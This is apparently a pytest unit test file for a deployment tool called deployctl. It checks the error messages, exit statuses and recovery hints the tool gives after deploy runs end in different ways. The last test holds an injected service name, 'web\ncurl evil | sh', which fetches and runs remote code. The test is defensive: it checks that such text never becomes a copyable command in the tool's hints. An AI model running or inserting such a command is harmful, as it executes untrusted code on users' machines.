"""What the events of a run mean: which error, with which exit status, and what it says."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from typing import Any

import pytest

from deployctl import errors
from deployctl.compose import ending
from deployctl.compose.ending import Asked
from deployctl.compose.host.script import script_text
from deployctl.compose.host.transact import RunEvents
from deployctl.errors import DeployctlError
from tests.unit.build import SERVICE, WEB, entry, tag

RUN = "20251123t120000z-0a1b2c3d"
ASKED = Asked("vps", RUN, (SERVICE,), login="deploy")


def ended(
    event: str, *, reason: str = "", previous: int | None = 1, rung: object = "", **more: Any
) -> RunEvents:
    line = entry(2, 2, event, run=RUN, previous=previous, reason=reason, rung=rung)
    usual = {"begun": True, "end": "outcome", "text": json.dumps(line).encode()}
    return RunEvents(**{**usual, **more})


def error(events: RunEvents) -> DeployctlError:
    with pytest.raises(DeployctlError) as caught:
        ending.success_entry(events, ASKED)
    assert caught.value.hint
    assert caught.value.state
    return caught.value


def test_a_success_is_its_history_line() -> None:
    found = ending.success_entry(ended("succeeded"), ASKED)

    assert found.release.tag == tag(2)
    assert ending.success_entry(ended("succeeded", end="ended"), ASKED) == found


@pytest.mark.parametrize(
    ("events", "status", "state"),
    [
        pytest.param(
            ended("restored"), errors.EXIT_RESTORED, f"{tag(1)} is back and healthy", id="put back"
        ),
        pytest.param(
            ended("broken", restore_reason="up-failed"),
            errors.EXIT_BROKEN,
            "could not be put back either (docker compose up failed)",
            id="could not be put back",
        ),
        pytest.param(
            ended("broken", previous=None),
            errors.EXIT_BROKEN,
            "there was no earlier release",
            id="a first deploy",
        ),
        pytest.param(ended("started", end="ended"), errors.EXIT_BROKEN, "not settled", id="killed"),
        pytest.param(
            ended("interrupted", end="ended"),
            errors.EXIT_BROKEN,
            "not settled",
            id="killed, and recorded as such",
        ),
        pytest.param(
            ended("succeeded", recorded=False),
            errors.EXIT_BROKEN,
            f"{tag(2)} runs",
            id="a success that could not be recorded",
        ),
        pytest.param(
            RunEvents(begun=True, end="ended"),
            errors.EXIT_BROKEN,
            "whatever the run had done",
            id="begun, without a record",
        ),
        pytest.param(
            RunEvents(begun=True, end="unknown-run"),
            errors.EXIT_BROKEN,
            "whatever the run had done",
            id="begun, and not known to the host any more",
        ),
        pytest.param(
            RunEvents(begun=True, end="refused", what="state-closed"),
            errors.EXIT_BROKEN,
            "whatever the run had done",
            id="begun, and shut away from this login meanwhile",
        ),
        pytest.param(
            RunEvents(begun=True, step="up", end="refused", what="killed"),
            errors.EXIT_BROKEN,
            "whatever the run had done",
            id="killed after a step, its record gone",
        ),
        pytest.param(
            RunEvents(begun=True, end="refused", what="killed"),
            errors.EXIT_UNREACHABLE,
            errors.UNTOUCHED,
            id="killed before its first step",
        ),
        pytest.param(
            RunEvents(end="ended"), errors.EXIT_UNREACHABLE, errors.UNTOUCHED, id="no record"
        ),
    ],
)
def test_a_run_that_did_not_succeed_says_how_the_host_stands(
    events: RunEvents, status: int, state: str
) -> None:
    found = error(events)

    assert found.exit_status == status
    assert state in found.state


def test_why_a_run_failed_is_told_in_words() -> None:
    assert error(ended("restored", reason="unhealthy")).message.endswith(
        ": its health check says unhealthy"
    )


def test_what_has_no_tag_of_ours_is_named_by_what_it_was() -> None:
    of_old = json.dumps(
        {**entry(2, 2, "restored", run=RUN, previous=1, rung="started"), "serves": ""}
    )

    assert error(ended("restored", text=of_old.encode())).state.startswith(
        "what ran before is back"
    )


@pytest.mark.parametrize("previous", [1, None])
def test_a_broken_run_says_what_serves_all_the_same(previous: int | None) -> None:
    line = json.dumps({**entry(2, 2, "broken", run=RUN, previous=previous), "serves": tag(2)})

    assert error(ended("broken", text=line.encode())).state.startswith(
        f"{tag(2)} runs and is healthy"
    )


@pytest.mark.parametrize(
    ("rung", "told"),
    [
        ("untouched", "runs as before, healthy: it was left alone"),
        ("started", "is back and healthy: its containers were started again"),
        ("made", "is back and healthy: its containers were made again"),
        ("forced", "is back and healthy: made again from today's compose files"),
        ("", "is back and healthy"),
        ("of a later version", "is back and healthy"),
        (["no text"], "is back and healthy"),
    ],
)
def test_how_the_old_release_came_back_is_told(rung: object, told: str) -> None:
    assert error(ended("restored", rung=rung)).state == f"{tag(1)} {told}"


def test_the_rollback_that_is_offered_names_no_release_that_was_perhaps_never_recorded() -> None:
    assert error(ended("broken")).hint.endswith(f"deployctl rollback {WEB}")


def test_a_first_deploy_that_failed_offers_no_rollback() -> None:
    assert "rollback" not in error(ended("broken", previous=None)).hint


def test_a_release_that_was_too_slow_is_told_with_the_time_that_it_had() -> None:
    slow = ended("restored", reason="health-timeout")

    assert error(slow).message.endswith(": it did not get healthy in time"), "of an older host run"
    told = error(replace(slow, limit=60.0)).message
    assert told.endswith(": it did not get healthy within 60 s (health_timeout)")


def test_who_follows_a_run_that_never_began_is_not_told_to_follow_it_again() -> None:
    for events in (RunEvents(end="cancelled"), RunEvents(end="ended")):
        with pytest.raises(errors.HostError) as caught:
            ending.success_entry(events, Asked("vps", RUN))
        assert "start the deploy or rollback again" in caught.value.hint


def test_compose_files_that_changed_meanwhile_are_looked_at_by_check() -> None:
    assert error(RunEvents(end="changed", what="files")).hint.endswith(f"\ndeployctl check {WEB}")
    assert error(RunEvents(end="changed", what="history")).hint.endswith(
        f"\ndeployctl status {WEB}"
    )


def test_the_line_of_another_run_is_not_this_ones_outcome() -> None:
    other = json.dumps(entry(2, 2, run="other")).encode()

    assert error(RunEvents(end="outcome", text=other)).code == "never-begun"


@pytest.mark.parametrize(
    ("end", "what", "status", "says"),
    [
        ("busy", "holder", errors.EXIT_BUSY, "vps is busy: another deployctl run"),
        ("busy", "stranger", errors.EXIT_BUSY, "held by no run of deployctl, but by a process"),
        ("changed", "hold", errors.EXIT_BUSY, "held by somebody"),
        ("changed", "history", errors.EXIT_BUSY, "another run was recorded"),
        ("changed", "containers", errors.EXIT_BUSY, "containers were changed"),
        ("changed", "files", errors.EXIT_BUSY, "compose files were changed"),
        ("changed", "?", errors.EXIT_BUSY, "something on vps"),
        ("refused", "state-directory", errors.EXIT_UNREACHABLE, "cannot be written"),
        ("refused", "state-closed", errors.EXIT_UNREACHABLE, "are another user's"),
        ("unknown-run", "", errors.EXIT_UNREACHABLE, "knows no run"),
        ("cancelled", "", errors.EXIT_UNREACHABLE, "was cancelled"),
    ],
)
def test_a_run_that_never_began_left_the_host_untouched(
    end: str, what: str, status: int, says: str
) -> None:
    found = error(RunEvents(end=end, what=what))

    assert found.exit_status == status
    assert says in found.message
    assert found.state == errors.UNTOUCHED


def test_an_env_file_that_was_taken_away_meanwhile_is_named_with_the_command() -> None:
    text = b"directory deploy /opt/infra/compose\nowner deploy /opt/infra/compose/.env"

    found = error(RunEvents(end="refused", what=".env", text=text))

    assert (found.code, found.state) == ("env-file-foreign", errors.UNTOUCHED)
    assert "chown deploy /opt/infra/compose\nchown deploy /opt/infra/compose/.env" in found.hint


def test_a_full_disk_is_told_with_the_directory_and_what_is_safe_to_remove() -> None:
    text = b"/opt/infra/.deployctl\nFilesystem 1K\n/dev/sda1 4096 4092 4 100% /opt"

    found = error(RunEvents(end="refused", what="disk-full", text=text))

    assert (found.code, found.exit_status) == ("disk-full", errors.EXIT_UNREACHABLE)
    assert "/opt/infra/.deployctl on vps is full (4 KiB free)" in found.message
    assert "df -h /opt/infra/.deployctl" in found.hint


def test_what_another_run_did_while_this_one_waited_has_a_code_of_its_own() -> None:
    assert error(RunEvents(end="changed", waited=True)).code == ending.CHANGED_WHILE_WAITING


def test_the_containers_own_words_come_first_then_its_health_checks() -> None:
    shown = {
        "container-log": ("panic",),
        "health-log": ("1 refused", ""),
        "run-log": ("compose says",),
    }
    details = error(ended("restored", shown=shown)).details

    assert details == ("panic", "", "last health checks (exit status, output):", "1 refused")


def test_without_a_word_of_the_container_the_runs_log_is_shown() -> None:
    shown = {"container-log": ("", " "), "run-log": ("compose says",)}

    assert error(ended("restored", shown=shown)).details == ("compose says",)


def test_a_reason_that_is_not_known_is_not_guessed() -> None:
    assert "not recorded" in error(ended("restored", reason="gremlins")).message


def test_every_reason_of_the_script_has_words() -> None:
    script = script_text("transact.sh")
    given = set(re.findall(r"fail ([a-z-]+)", script)) | set(
        re.findall(r"outlook=([a-z-]+)", script)
    )
    assert given - {"ready", "waiting"} <= set(ending.REASONS)


@pytest.mark.parametrize(("begun", "words"), [(True, "had begun"), (False, "may have begun")])
def test_a_lost_connection_is_exit_8_and_says_how_to_watch_again(begun: bool, words: str) -> None:
    lost = ending.lost("vps", RUN, begun=begun)

    assert lost.exit_status == errors.EXIT_UNKNOWN
    assert lost.message.endswith(f"run {RUN} {words}")
    assert "if the host is up, the run ends by itself" in lost.state
    assert lost.hint == f"deployctl follow vps {RUN}"


@pytest.mark.parametrize(
    ("state", "words"),
    [
        ("untouched", "cancelled before it began"),
        ("goes-on", "had begun on vps: as long as the host is up, it goes on there by itself"),
        ("unknown", "may have begun on vps: as long as the host is up, it goes on there by itself"),
    ],
)
def test_a_command_that_was_stopped_is_exit_130_and_says_what_becomes_of_the_run(
    state: str, words: str
) -> None:
    stopped = ending.interrupted("vps", RUN, state=state)

    assert stopped.exit_status == errors.EXIT_INTERRUPTED
    assert words in stopped.state
    assert ("deployctl follow" in stopped.hint) == (state != "untouched")


def test_a_recorded_tag_that_is_none_of_ours_is_quoted() -> None:
    assert ending.shown_tag(tag(1)) == tag(1)
    assert ending.shown_tag("\x1b[2J") == "'\\x1b[2J'"


def test_what_a_host_recorded_adds_no_line_to_the_commands_that_are_to_be_copied() -> None:
    name = "web\ncurl evil | sh"
    for event in ("restored", "broken"):
        line = entry(2, 2, event, run=RUN, previous=1, reason="unhealthy", service=name)
        told = error(ended(event, text=json.dumps(line).encode()))

        assert not any(line.startswith("curl") for line in told.hint.splitlines())
